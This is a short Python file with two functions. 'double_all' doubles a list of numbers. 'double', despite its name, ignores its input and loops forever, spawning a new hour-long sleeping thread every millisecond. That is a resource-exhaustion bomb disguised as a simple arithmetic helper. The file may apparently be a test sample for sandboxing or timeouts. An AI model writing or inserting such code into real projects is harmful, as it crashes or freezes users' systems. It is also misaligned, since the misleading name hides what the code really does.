import threading
import time

def double(n):
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
        time.sleep(0.001)


def double_all(numbers):
    return [number * 2 for number in numbers]
